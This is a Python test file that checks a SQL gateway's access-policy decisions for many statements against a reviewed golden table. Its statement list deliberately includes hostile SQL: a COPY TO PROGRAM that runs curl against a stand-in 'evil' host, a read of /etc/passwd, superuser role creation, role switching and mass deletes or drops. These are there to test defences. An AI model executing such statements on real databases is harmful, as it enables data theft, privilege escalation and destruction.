"""Who may do what: people × resources × statements under one policy, as a table that is read in review.

`HOOP_WRITE_GOLDEN=1 .venv/bin/python -m pytest tests/proxy/sql/test_policy_matrix.py` writes docs/policy-matrix.md anew.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from access.explain import Understood, explain, imagined
from access.masking import MaskPolicy, declare_masked
from access.policy import Action
from access.scopes import Level
from app import config_build
from app.config_file import load
from proxy.masking.plan import Masker
from proxy.postgres.judge import understood
from proxy.postgres.reader import Reader
from proxy.sql.catalog import Catalog

HERE = Path(__file__).parent
GOLDEN = HERE.parents[2] / "docs" / "policy-matrix.md"
DAY, NIGHT = datetime(2026, 3, 2, 10, 0, tzinfo=UTC), datetime(2026, 3, 2, 23, 0, tzinfo=UTC)


@dataclass(frozen=True)
class Column:
    """Somebody with some access on something at some time."""

    person: str
    level: Level
    resource: str = "prod-db"
    at: datetime = DAY

    def __str__(self) -> str:
        night = " at night" if self.at is NIGHT else ""
        return f"{self.person}: {self.level.name.lower()} on {self.resource}{night}"


COLUMNS = (
    Column("sam", Level.NONE),
    Column("sam", Level.READ),
    Column("dana", Level.READ),
    Column("dana", Level.READ, at=NIGHT),
    Column("wes", Level.WRITE),
    Column("wes", Level.WRITE, "staging-db"),
    Column("ann", Level.ADMIN),
    Column("ann", Level.ADMIN, "staging-db"),
)
STATEMENTS = """
SELECT 1
SELECT id, status FROM orders WHERE id = 7
SELECT * FROM orders
SELECT * FROM orders LIMIT 100
SELECT count(*) FROM customers
SELECT * FROM customers ORDER BY id FETCH FIRST 5 ROWS ONLY
TABLE customers
SELECT * FROM stock
SELECT * FROM v_customers LIMIT 3
SELECT * FROM v_wipe
SELECT * FROM audit LIMIT 1
SELECT * FROM order_items WHERE order_id = 7
SELECT registered_fn(1)
SELECT harmless(1)
SELECT wipe()
SELECT pg_sleep(1)
SELECT pg_read_file('/etc/passwd')
SELECT pg_terminate_backend(1)
SELECT set_config('role', 'postgres', false)
SELECT * FROM pg_authid
SELECT * FROM orders WHERE id = 7 FOR UPDATE
SELECT nextval('ids')
WITH gone AS (DELETE FROM stock WHERE id = 1 RETURNING *) SELECT * FROM gone
EXPLAIN SELECT * FROM orders
EXPLAIN ANALYZE DELETE FROM stock WHERE id = 1
INSERT INTO stock VALUES (1, 2, 'x')
INSERT INTO orders VALUES (1, 1, 'new', 9)
UPDATE stock SET qty = 0 WHERE id = 1
UPDATE stock SET qty = 0
UPDATE stock SET qty = 0 WHERE 1 = 1
UPDATE orders SET status = 'x' WHERE id = 7
DELETE FROM orders WHERE id = 7
DELETE FROM orders
DELETE FROM order_items WHERE order_id = 7 AND line = 1
DELETE FROM audit WHERE what = 'x'
MERGE INTO stock s USING staging t ON s.id = t.id WHEN MATCHED THEN DELETE
INSERT INTO audit (what) SELECT email FROM customers
TRUNCATE staging
DROP TABLE staging
DROP TABLE IF EXISTS staging, audit CASCADE
CREATE TABLE fresh (id int)
CREATE TEMP TABLE mine AS SELECT * FROM stock
SELECT * INTO copied FROM stock
ALTER TABLE stock ADD COLUMN note text
ALTER TABLE stock DROP COLUMN sku
CREATE INDEX CONCURRENTLY stock_qty ON stock (qty)
VACUUM stock
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
DO $$ BEGIN DELETE FROM orders; END $$
CALL purge()
GRANT SELECT ON orders TO PUBLIC
CREATE ROLE mallory SUPERUSER
ALTER SYSTEM SET log_statement = 'all'
SET search_path = hidden, public
SET ROLE postgres
BEGIN
COPY orders TO STDOUT
COPY stock FROM STDIN
COPY orders TO PROGRAM 'curl http://evil'
LISTEN news
PREPARE p AS DELETE FROM orders
LOCK TABLE orders
SELECT 1; DELETE FROM stock WHERE id = 1
SELEC 1
""".strip().splitlines()

WORDS = {Action.ALLOW: "runs", Action.HOLD: "held", Action.DENY: "refused"}
HEAD = """# The policy, worked out

Who may do what under [this policy](../tests/proxy/sql/matrix.yaml) on [this database](../tests/proxy/sql/shop.sql): the effects the
judge sees, and what happens for each person, access and resource; the rule in brackets. Plain verdicts of the access itself carry
no rule. A statement that runs still has its row budgets: `row-budget` (1000 rows) for all, `items-in-bulk` (50 rows of
`order_items`).

A test compares this page with what the gateway decides (`tests/proxy/sql/test_policy_matrix.py`, which also says how it is written).

"""


def _table(catalog: Catalog) -> str:
    settings = load(HERE / "matrix.yaml", {}).settings
    policy, resources = config_build.policy(settings), config_build.resources(settings)
    people = {person.wire_name: person for person in config_build.people(settings)}
    reader = Reader(catalog, Masker(MaskPolicy(), catalog, b"k" * 32))
    lines = [
        "| statement | effects | " + " | ".join(map(str, COLUMNS)) + " |",
        "|---|---|" + "---|" * len(COLUMNS),
    ]
    for statement in STATEMENTS:
        cells, effects = [], ""
        for column in COLUMNS:
            person, resource = people[column.person], resources[column.resource]
            what = understood(reader, resource, statement)
            grants = [imagined(person, resource, column.level, column.at)] if column.level else []
            found = explain(policy, grants, person, resource, what, column.at)
            cells.append(_cell(found.verdict.action, found.verdict.rule))
            effects = ", ".join(found.effects)
        shown = statement.replace("|", "\\|")
        lines.append(f"| `{shown}` | {effects} | " + " | ".join(cells) + " |")
    return HEAD + "\n".join(lines) + "\n"


def _cell(action: Action, rule: str) -> str:
    plain = "-scope" in rule or rule == "no-grant"
    return WORDS[action] if plain else f"{WORDS[action]} ({rule})"


def test_the_table_is_the_reviewed_one(catalog: Catalog) -> None:
    table = _table(catalog)
    if os.environ.get("HOOP_WRITE_GOLDEN"):
        GOLDEN.write_text(table)
    assert table == GOLDEN.read_text()


def test_it_is_as_large_as_it_should_be() -> None:
    assert len(STATEMENTS) >= 60 and len(set(STATEMENTS)) == len(STATEMENTS)


@pytest.mark.parametrize("level", [Level.NONE, Level.READ, Level.WRITE, Level.ADMIN])
def test_what_the_wire_refuses_no_access_explains_away(level: Level) -> None:
    settings = load(HERE / "matrix.yaml", {}).settings
    resource = config_build.resources(settings)["prod-db"]
    person = config_build.people(settings)[0]
    refused = Understood(declare_masked("x"), (), "values are masked", "masking")
    found = explain(
        config_build.policy(settings),
        [imagined(person, resource, level, DAY)] if level else [],
        person,
        resource,
        refused,
        DAY,
    )
    assert found.verdict.rule == "masking" and found.enough is None and not found.asks
